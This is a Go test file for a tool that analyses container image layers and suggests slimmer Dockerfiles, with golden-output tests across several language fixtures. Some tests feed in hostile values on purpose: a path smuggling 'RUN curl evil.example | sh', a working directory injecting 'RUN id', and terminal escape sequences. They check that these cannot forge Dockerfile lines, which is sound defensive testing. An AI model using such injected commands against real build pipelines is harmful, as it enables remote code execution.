package suggest

import (
	"errors"
	"flag"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/imgdiff/imgdiff/analyze/dockerfile"
	"github.com/imgdiff/imgdiff/analyze/model"
	"github.com/imgdiff/imgdiff/layers/index"
	"github.com/moby/buildkit/frontend/dockerfile/instructions"
)

var update = flag.Bool("update", false, "rewrite the golden Dockerfiles")

const dfDir = "../../testdata/dockerfiles/"

func cFixture() fixture {
	st := status([2]string{"libc6", ""}, [2]string{"dash", "libc6"}, [2]string{"build-essential", "gcc, make, libc6-dev"},
		[2]string{"gcc", "gcc-12"}, [2]string{"gcc-12", "libisl23, libc6"}, [2]string{"make", "libc6"}, [2]string{"libc6-dev", "libc6"}, [2]string{"libisl23", "libc6"})
	elf := map[string]ELF{"usr/local/bin/wordfreq": {Interp: "/lib64/ld-linux-x86-64.so.2", Needed: []string{"libc.so.6"}}}
	return fixture{
		ref:        "wordfreq:single",
		dockerfile: dfDir + "c/Dockerfile.single",
		status:     st,
		auto:       []string{"gcc", "gcc-12", "make", "libc6-dev", "libisl23"},
		pkgs: append(append([]pkgdef{}, basePkgs...),
			pkgdef{name: "build-essential", manager: "dpkg", cat: model.BuildTool},
			pkgdef{name: "gcc-12", manager: "dpkg", cat: model.BuildTool},
			pkgdef{name: "make", manager: "dpkg", cat: model.BuildTool},
			pkgdef{name: "libc6-dev", manager: "dpkg", cat: model.BuildTool},
			pkgdef{name: "libisl23", manager: "dpkg"}),
		history: []step{
			withLoader(debianBase(st), elf),
			{createdBy: run("apt-get update && apt-get install -y --no-install-recommends build-essential"), files: []ffile{
				{path: "usr/share/doc/build-essential/copyright", size: 1_000, pkg: "build-essential"},
				{path: "usr/bin/gcc-12", size: 30_000_000, pkg: "gcc-12", mode: 0o755},
				{path: "usr/bin/make", size: 250_000, pkg: "make", mode: 0o755},
				{path: "usr/include/stdio.h", size: 50_000, pkg: "libc6-dev"},
				{path: "usr/lib/x86_64-linux-gnu/libisl.so.23", size: 3_000_000, pkg: "libisl23"},
				{path: "var/lib/apt/lists/deb.debian.org_Packages", size: 9_000_000, cat: model.Cache},
				{path: "var/lib/dpkg/info/gcc-12.list", size: 2_000},
			}},
			{createdBy: "WORKDIR /src", files: []ffile{{path: "src", kind: index.Dir}}},
			{createdBy: "COPY Makefile wordfreq.c ./ # buildkit", files: []ffile{
				{path: "src/Makefile", size: 500, cat: model.Source},
				{path: "src/wordfreq.c", size: 4_000, cat: model.Source},
			}},
			{createdBy: run("make check && make install"), files: []ffile{
				{path: "src/wordfreq.o", size: 8_000, cat: model.Source},
				{path: "usr/local/bin/wordfreq", size: 17_000, mode: 0o755},
			}},
			{createdBy: `ENTRYPOINT ["/usr/local/bin/wordfreq"]`, empty: true},
		},
		config: model.Config{Entrypoint: []string{"/usr/local/bin/wordfreq"}, Env: []string{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"}},
		elf:    elf,
	}
}

func goFixture() fixture {
	st := status([2]string{"libc6", ""}, [2]string{"dash", "libc6"}, [2]string{"golang-go", "golang-1.19-go"}, [2]string{"golang-1.19-go", ""})
	return fixture{
		ref:        "hello-svc:single",
		dockerfile: dfDir + "go/Dockerfile.single",
		status:     st,
		auto:       []string{"golang-1.19-go"},
		pkgs: append(append([]pkgdef{}, basePkgs...),
			pkgdef{name: "golang-go", manager: "dpkg", cat: model.BuildTool},
			pkgdef{name: "golang-1.19-go", manager: "dpkg", cat: model.BuildTool}),
		history: []step{
			debianBase(st),
			{createdBy: run("apt-get update && apt-get install -y --no-install-recommends golang-go"), files: []ffile{
				{path: "usr/share/doc/golang-go/copyright", size: 1_000, pkg: "golang-go"},
				{path: "usr/lib/go-1.19/bin/go", size: 50_000_000, pkg: "golang-1.19-go", mode: 0o755},
				{path: "var/lib/apt/lists/deb.debian.org_Packages", size: 9_000_000, cat: model.Cache},
			}},
			{createdBy: "ENV CGO_ENABLED=0", empty: true},
			{createdBy: "WORKDIR /src", files: []ffile{{path: "src", kind: index.Dir}}},
			{createdBy: "COPY go.mod main.go main_test.go ./ # buildkit", files: []ffile{
				{path: "src/go.mod", size: 100, cat: model.Source},
				{path: "src/main.go", size: 3_000, cat: model.Source},
				{path: "src/main_test.go", size: 2_000, cat: model.Source},
			}},
			{createdBy: run("go test ./... && go build -o /usr/local/bin/hello-svc ."), files: []ffile{
				{path: "root/.cache/go-build/00/0a1b-d", size: 20_000_000, cat: model.Cache},
				{path: "usr/local/bin/hello-svc", size: 7_000_000, mode: 0o755},
			}},
			{createdBy: "EXPOSE map[8080/tcp:{}]", empty: true},
			{createdBy: `CMD ["/usr/local/bin/hello-svc"]`, empty: true},
		},
		config: model.Config{Cmd: []string{"/usr/local/bin/hello-svc"}, Env: []string{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "CGO_ENABLED=0"}, WorkingDir: "/src"},
		elf:    map[string]ELF{"usr/local/bin/hello-svc": {}},
	}
}

func nodeFixture() fixture {
	st := status([2]string{"libc6", ""}, [2]string{"dash", "libc6"}, [2]string{"nodejs", "libnode108, libc6"}, [2]string{"libnode108", "libc6"}, [2]string{"npm", "nodejs"})
	return fixture{
		ref:        "node-svc:single",
		dockerfile: dfDir + "node/Dockerfile.single",
		status:     st,
		auto:       []string{"libnode108"},
		pkgs: append(append([]pkgdef{}, basePkgs...),
			pkgdef{name: "nodejs", manager: "dpkg"},
			pkgdef{name: "libnode108", manager: "dpkg"},
			pkgdef{name: "npm", manager: "dpkg", cat: model.BuildTool},
			pkgdef{name: "express", manager: "npm", location: "app/node_modules/express"},
			pkgdef{name: "typescript", manager: "npm", cat: model.DevDependency, dev: true, location: "app/node_modules/typescript"}),
		history: []step{
			debianBase(st),
			{createdBy: run("apt-get update && apt-get install -y --no-install-recommends nodejs npm"), files: []ffile{
				{path: "usr/bin/node", size: 100_000, pkg: "nodejs", mode: 0o755},
				{path: "usr/lib/x86_64-linux-gnu/libnode.so.108", size: 40_000_000, pkg: "libnode108"},
				{path: "usr/share/nodejs/npm/index.js", size: 10_000_000, pkg: "npm"},
				{path: "var/lib/dpkg/info/nodejs.list", size: 1_000},
				{path: "var/lib/dpkg/info/npm.list", size: 3_000},
				{path: "var/log/dpkg.log", size: 3_000},
			}},
			{createdBy: "WORKDIR /app", files: []ffile{{path: "app", kind: index.Dir}}},
			{createdBy: "COPY npm-cache /root/.npm # buildkit", files: []ffile{{path: "root/.npm/_cacache/index", size: 5_000_000, cat: model.Cache}}},
			{createdBy: "COPY package.json package-lock.json ./ # buildkit", files: []ffile{
				{path: "app/package.json", size: 500},
				{path: "app/package-lock.json", size: 20_000},
			}},
			{createdBy: "ARG NPM_FLAGS=--prefer-offline", empty: true},
			{createdBy: "RUN |1 NPM_FLAGS=--offline /bin/sh -c npm ci $NPM_FLAGS --no-audit --no-fund # buildkit", files: []ffile{
				{path: "app/node_modules/express/index.js", size: 200_000, pkg: "express"},
				{path: "app/node_modules/typescript/lib/tsc.js", size: 20_000_000, pkg: "typescript"},
			}},
			{createdBy: "COPY tsconfig.json ./ # buildkit", files: []ffile{{path: "app/tsconfig.json", size: 300, cat: model.Source}}},
			{createdBy: "COPY src ./src # buildkit", files: []ffile{{path: "app/src/server.ts", size: 3_000, cat: model.Source}}},
			{createdBy: "COPY test ./test # buildkit", files: []ffile{{path: "app/test/server.test.ts", size: 2_000, cat: model.Source}}},
			{createdBy: "RUN |1 NPM_FLAGS=--offline /bin/sh -c npm run build && npm test # buildkit", files: []ffile{{path: "app/dist/server.js", size: 4_000}}},
			{createdBy: "EXPOSE map[8080/tcp:{}]", empty: true},
			{createdBy: `CMD ["node" "dist/server.js"]`, empty: true},
		},
		config: model.Config{Cmd: []string{"node", "dist/server.js"}, WorkingDir: "/app"},
	}
}

// gccScriptFixture is the C app whose ENTRYPOINT script compiles at run
// time: what the container needs cannot be decided from the files alone.
func gccScriptFixture(t *testing.T) fixture {
	fx := cFixture()
	dir := t.TempDir()
	df := `FROM debian:bookworm-slim
RUN apt-get update && apt-get install -y --no-install-recommends build-essential
WORKDIR /src
COPY Makefile wordfreq.c entrypoint.sh ./
RUN make check && make install
ENTRYPOINT ["/src/entrypoint.sh"]
`
	if err := os.WriteFile(filepath.Join(dir, "Dockerfile"), []byte(df), 0o644); err != nil {
		t.Fatal(err)
	}
	fx.dockerfile = filepath.Join(dir, "Dockerfile")
	fx.history[3] = step{createdBy: "COPY Makefile wordfreq.c entrypoint.sh ./ # buildkit", files: append(fx.history[3].files,
		ffile{path: "src/entrypoint.sh", size: 60, mode: 0o755})}
	fx.history[5] = step{createdBy: `ENTRYPOINT ["/src/entrypoint.sh"]`, empty: true}
	fx.config.Entrypoint = []string{"/src/entrypoint.sh"}
	fx.scripts = map[string][]byte{"src/entrypoint.sh": []byte("#!/bin/sh\ngcc-12 -O2 -o /tmp/plugin /plugins/*.c\nexec /usr/local/bin/wordfreq \"$@\"\n")}
	return fx
}

func TestSuggestGolden(t *testing.T) {
	tests := []struct {
		name string
		fx   fixture
		// Hand-computed from the fixture's sizes.
		want   Prediction
		base   string
		pkgs   []string
		copies []string // nil: not checked
		lines  []string // lines the Dockerfile must hold
	}{
		{"c", cFixture(), Prediction{
			// base 2,000,000 + 100,000 + 1,000 + status, the loader
			// 200,000 and its links (7 + 9 + 42 bytes); wordfreq 17,000.
			// On scratch: wordfreq, libc and the loader.
			Original:  2_101_000 + int64(len(cFixture().status)) + 200_058 + 42_303_000 + 4_500 + 25_000,
			Predicted: 17_000 + 2_000_000 + 200_000,
			Terms:     []Term{{"build-tool", 30_301_000}, {"source", 12_500}, {"cache", 9_000_000}, {"other", 3_002_000}, {"base", 101_058 + int64(len(cFixture().status))}},
		}, "scratch", nil, nil, nil},
		{"go", goFixture(), Prediction{
			Original:  2_101_000 + int64(len(goFixture().status)) + 59_001_000 + 5_100 + 27_000_000,
			Predicted: 7_000_000,
			Terms:     []Term{{"build-tool", 50_001_000}, {"source", 5_100}, {"cache", 29_000_000}, {"base", 2_101_000 + int64(len(goFixture().status))}},
		}, "scratch", nil, nil, nil},
		{"node", nodeFixture(), Prediction{
			Original: 2_101_000 + int64(len(nodeFixture().status)) + 50_107_000 + 5_000_000 + 20_500 + 20_200_000 + 5_300 + 4_000,
			// base, node + libnode + nodejs.list + dpkg.log, package*.json, express, dist
			Predicted: 2_101_000 + int64(len(nodeFixture().status)) + 40_104_000 + 20_500 + 200_000 + 4_000,
			Terms:     []Term{{"build-tool", 10_000_000}, {"source", 5_300}, {"dev-dependency", 20_000_000}, {"cache", 5_000_000}, {"other", 3_000}},
		}, "debian:bookworm-slim", []string{"nodejs"}, nil, nil},
		{"python", pythonFixture(), Prediction{
			Original: 2_101_000 + int64(len(pythonFixture().status)) + 75_001_010 + 700 + 5_000 + 1_500 + 1_062_700,
			// base, python3 + python3.11, the copied files: setup files, __init__.py, dist-packages, console script
			Predicted: 2_101_000 + int64(len(pythonFixture().status)) + 20_000_010 + 700 + 2_000 + 62_700,
			Terms:     []Term{{"build-tool", 43_001_000}, {"source", 4_500}, {"dev-dependency", 3_000_000}, {"cache", 10_000_000}},
		}, "debian:bookworm-slim", []string{"python3"},
			[]string{"/src/pyproject.toml", "/src/setup.py", "/src/src/wordstats/__init__.py", "/usr/local"},
			[]string{"RUN apt-get update && apt-get install -y --no-install-recommends python3 \\", "COPY --from=build /usr/local /usr/local"}},
		{"java", javaFixture(), Prediction{
			Original:  2_101_000 + int64(len(javaFixture().status)) + 219_000_000 + 3_000 + 11_000,
			Predicted: 2_101_000 + int64(len(javaFixture().status)) + 130_000_000 + 11_000,
			Terms:     []Term{{"build-tool", 80_000_000}, {"source", 3_000}, {"cache", 9_000_000}},
		}, "debian:bookworm-slim", []string{"openjdk-17-jre-headless"},
			[]string{"/src/app.jar", "/src/classes", "/src/test-classes"},
			[]string{"RUN mkdir -p /usr/share/man/man1 && apt-get update && apt-get install -y --no-install-recommends openjdk-17-jre-headless \\",
				"#   openjdk-17-jre-headless: the JRE matching openjdk-17-jdk-headless (dpkg: openjdk-17-jdk-headless)"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got, err := Suggest(tc.fx.build(t))
			if err != nil {
				t.Fatal(err)
			}
			tc.want.Delta = tc.want.Original - tc.want.Predicted
			if diff := cmp.Diff(tc.want, got.Prediction); diff != "" {
				t.Errorf("prediction (-want +got):\n%s", diff)
			}
			var sum int64
			for _, term := range got.Prediction.Terms {
				sum += term.Bytes
			}
			if sum != got.Prediction.Delta {
				t.Errorf("terms add up to %d, ΔS is %d", sum, got.Prediction.Delta)
			}
			if got.Base != tc.base {
				t.Errorf("base %q, want %q", got.Base, tc.base)
			}
			if diff := cmp.Diff(tc.pkgs, got.Packages); diff != "" {
				t.Errorf("runtime packages (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(tc.copies, got.Copies); tc.copies != nil && diff != "" {
				t.Errorf("copies (-want +got):\n%s", diff)
			}
			for _, l := range tc.lines {
				if !strings.Contains(got.Dockerfile, l+"\n") {
					t.Errorf("missing line %q in\n%s", l, got.Dockerfile)
				}
			}
			checkParses(t, got.Dockerfile)
			golden(t, tc.name, got.Dockerfile)
		})
	}
}

// checkParses parses the suggestion with BuildKit's parser and checks the
// final stage's chain: every COPY --from names an earlier stage, and the
// final stage's base is what Suggest said.
func checkParses(t *testing.T, text string) *dockerfile.File {
	t.Helper()
	f, err := dockerfile.Parse("suggested", []byte(text))
	if err != nil {
		t.Fatalf("the suggestion does not parse: %v\n%s", err, text)
	}
	names := map[string]bool{}
	for i := range f.Stages {
		st := &f.Stages[i]
		for _, in := range st.Instructions {
			if c, ok := in.Command.(*instructions.CopyCommand); ok && c.From != "" && !names[c.From] {
				t.Errorf("stage %s line %d: COPY --from=%s names no earlier stage", st.Label(), in.Lines.Start, c.From)
			}
		}
		if st.Name != "" {
			names[st.Name] = true
		}
	}
	last := &f.Stages[len(f.Stages)-1]
	if len(f.Chain(last)) != 1 || last.Parent != -1 {
		t.Errorf("the final stage should start from an image, not a stage: %+v", last)
	}
	return f
}

// copied reports whether a COPY source is p or a directory above it.
func copied(copies []string, p string) bool {
	for _, c := range copies {
		if c == p || strings.HasPrefix(p, strings.TrimSuffix(c, "/")+"/") {
			return true
		}
	}
	return false
}

func golden(t *testing.T, name, text string) {
	t.Helper()
	p := filepath.Join("testdata", name+".Dockerfile")
	if *update {
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(p)
	if err != nil {
		t.Fatalf("%v (run with -update to write it)", err)
	}
	if diff := cmp.Diff(string(want), text); diff != "" {
		t.Errorf("%s differs from the reviewed golden file (-want +got):\n%s", p, diff)
	}
}

// An ENTRYPOINT script that calls gcc at run time keeps gcc in the final
// stage, with the question asked in the file.
func TestEntrypointScriptCallingGCC(t *testing.T) {
	got, err := Suggest(gccScriptFixture(t).build(t))
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Contains(got.Packages, "gcc-12") {
		t.Errorf("gcc-12 should stay for the script; packages %v", got.Packages)
	}
	if len(got.Questions) == 0 || !strings.Contains(got.Questions[0], "entrypoint.sh runs gcc-12") {
		t.Errorf("questions %q should name the script and gcc-12", got.Questions)
	}
	if !strings.Contains(got.Dockerfile, "# ? gcc-12 is a build-tool") {
		t.Errorf("the question is not in the file:\n%s", got.Dockerfile)
	}
	// The script, and the sources gcc may compile at run time (asked).
	for _, f := range []string{"/src/entrypoint.sh", "/src/wordfreq.c"} {
		if !copied(got.Copies, f) {
			t.Errorf("%s must be copied; copies %v", f, got.Copies)
		}
	}
	if !strings.Contains(got.Dockerfile, "# ? 3 source file(s) the build wrote (13 kB) are copied, as the container runs gcc-12") {
		t.Errorf("the kept sources are not asked about:\n%s", got.Dockerfile)
	}
	checkParses(t, got.Dockerfile)
	golden(t, "c-entrypoint-gcc", got.Dockerfile)
}

// A binary whose library no package owns is kept on the original base and
// asked about.
func TestUnknownLibraryIsAsked(t *testing.T) {
	fx := cFixture()
	fx.elf["usr/local/bin/wordfreq"] = ELF{Interp: "/lib64/ld-linux-x86-64.so.2", Needed: []string{"libc.so.6", "libvendor.so.1"}}
	got, err := Suggest(fx.build(t))
	if err != nil {
		t.Fatal(err)
	}
	if got.Base != "debian:bookworm-slim" || len(got.Questions) != 1 || !strings.Contains(got.Questions[0], "libvendor.so.1") {
		t.Errorf("base %s, questions %q", got.Base, got.Questions)
	}
}

// A DT_NEEDED library installed by the build (not the base) brings its
// owner package into the final stage.
func TestNeededLibraryOwner(t *testing.T) {
	fx := cFixture()
	fx.elf["usr/local/bin/wordfreq"] = ELF{Interp: "/lib64/ld-linux-x86-64.so.2", Needed: []string{"libc.so.6", "libisl.so.23"}}
	got, err := Suggest(fx.build(t))
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]string{"libisl23"}, got.Packages); diff != "" {
		t.Errorf("packages (-want +got):\n%s", diff)
	}
	if !strings.Contains(got.Dockerfile, "libisl23: owns libisl.so.23, which /usr/local/bin/wordfreq needs (DT_NEEDED)") ||
		!strings.Contains(got.Dockerfile, "apt-get install -y --no-install-recommends libisl23") {
		t.Errorf("the install and its evidence are missing:\n%s", got.Dockerfile)
	}
	// libisl23's 3 MB now stay: ΔS's "other" term is the dpkg list only.
	for _, term := range got.Prediction.Terms {
		if term.Name == "other" && term.Bytes != 2_000 {
			t.Errorf("other = %d, want 2000 (gcc-12.list)", term.Bytes)
		}
	}
}

func TestBadInput(t *testing.T) {
	if _, err := Suggest(Input{}); !errors.Is(err, ErrInput) {
		t.Errorf("err = %v, want ErrInput", err)
	}
	in := cFixture().build(t)
	in.Class = &model.Classification{}
	if _, err := Suggest(in); !errors.Is(err, ErrInput) {
		t.Errorf("err = %v, want ErrInput", err)
	}
}

// A history step the Dockerfile does not account for: its files are
// copied as the build's, never dropped, and the question names it.
func TestUnmappedStepIsCopiedAndAsked(t *testing.T) {
	in := cFixture().build(t)
	m := *in.Mapping
	m.Entries = append([]dockerfile.EntryMapping{}, m.Entries...)
	m.Entries[4].Kind = dockerfile.KindUnmapped // make check && make install
	in.Mapping = &m
	got, err := Suggest(in)
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Contains(got.Copies, "/usr/local") {
		t.Errorf("the unmapped step's binary is not copied: %v", got.Copies)
	}
	if len(got.Questions) != 1 || !strings.Contains(got.Questions[0], "history entries 4 match no line") {
		t.Errorf("questions %q", got.Questions)
	}
}

// A hostile path cannot forge a Dockerfile line: it is not copied, and the
// question quotes it.
func TestHostilePathForgesNoLine(t *testing.T) {
	fx := cFixture()
	fx.history[4].files = append(fx.history[4].files, ffile{path: "opt/x\nRUN curl evil.example | sh", size: 10})
	fx.config.WorkingDir = "/src\nRUN id"
	got, err := Suggest(fx.build(t))
	if err != nil {
		t.Fatal(err)
	}
	f := checkParses(t, got.Dockerfile)
	for _, st := range f.Stages {
		for _, in := range st.Instructions {
			if strings.Contains(in.Text, "curl") || strings.Contains(in.Text, "RUN id") {
				t.Errorf("forged instruction %q", in.Text)
			}
		}
	}
	if len(got.Questions) != 2 || !strings.Contains(got.Questions[0], `"/opt/x\nRUN curl evil.example | sh"`) {
		t.Errorf("questions %q", got.Questions)
	}
}

// A build tool the container runs keeps what the original installed as its
// recommendations: gcc-12 recommends libc6-dev (stdio.h, crt1.o), and the
// final stage installs with --no-install-recommends, so libc6-dev must be
// named or gcc cannot build the script's program. Without the Recommends
// edge, nothing is added: the closure comes from the image's own graph.
func TestToolRunKeepsItsRecommendations(t *testing.T) {
	for _, tc := range []struct {
		recommends bool
		want       []string
	}{{true, []string{"gcc-12", "libc6-dev"}}, {false, []string{"gcc-12"}}} {
		fx := gccScriptFixture(t)
		if tc.recommends {
			old := "Depends: libisl23, libc6\n"
			if !strings.Contains(fx.status, old) {
				t.Fatal("the fixture's gcc-12 stanza changed")
			}
			fx.status = strings.Replace(fx.status, old, old+"Recommends: libc6-dev\n", 1)
		}
		got, err := Suggest(fx.build(t))
		if err != nil {
			t.Fatal(err)
		}
		if !slices.Equal(got.Packages, tc.want) {
			t.Errorf("recommends %v: packages %v, want %v", tc.recommends, got.Packages, tc.want)
		}
		line := "RUN apt-get update && apt-get install -y --no-install-recommends " + strings.Join(tc.want, " ") + " \\"
		if !strings.Contains(got.Dockerfile, line) {
			t.Errorf("recommends %v: no line %q in\n%s", tc.recommends, line, got.Dockerfile)
		}
		if tc.recommends && !strings.Contains(got.Dockerfile, "#   libc6-dev: recommended by gcc-12, which the container runs, and installed with it in the original") {
			t.Errorf("the reason for libc6-dev is not in the file:\n%s", got.Dockerfile)
		}
	}
}

// Names from the image (a script path, its commands) reach comments
// through evidence and questions: a control character in one (an escape
// sequence for the terminal the Dockerfile is printed on) is shown
// escaped, never written as it is. (White space cannot get there: the
// config's words are split on it before a script is looked up.)
func TestImageStringsStayInComments(t *testing.T) {
	const evil = "src/entry\x1b]0;pwned\x07\x1b[2J.sh"
	fx := gccScriptFixture(t)
	files := fx.history[3].files
	files[len(files)-1].path = evil
	fx.config.Entrypoint = []string{"/" + evil}
	fx.scripts = map[string][]byte{evil: fx.scripts["src/entrypoint.sh"]}
	got, err := Suggest(fx.build(t))
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Contains(got.Packages, "gcc-12") {
		t.Fatalf("the script was not read (premise): packages %v\n%s", got.Packages, got.Dockerfile)
	}
	for i, l := range strings.Split(got.Dockerfile, "\n") {
		if strings.ContainsAny(l, "\x1b\x07") {
			t.Errorf("line %d comes from the image's strings: %q\n%s", i+1, l, got.Dockerfile)
		}
	}
	checkParses(t, got.Dockerfile)
}

// Every comment line the writer emits is one line of visible text.
func TestCommentText(t *testing.T) {
	for in, want := range map[string]string{
		"# plain, évidence ✓":     "# plain, évidence ✓",
		"# a\nRUN touch /pwned":   `# a\x0aRUN touch /pwned`,
		"# \x1b]0;t\x07 \r\u2028": `# \x1b]0;t\x07 \x0d\u2028`,
	} {
		if got := commentText(in); got != want {
			t.Errorf("commentText(%q) = %q, want %q", in, got, want)
		}
	}
}
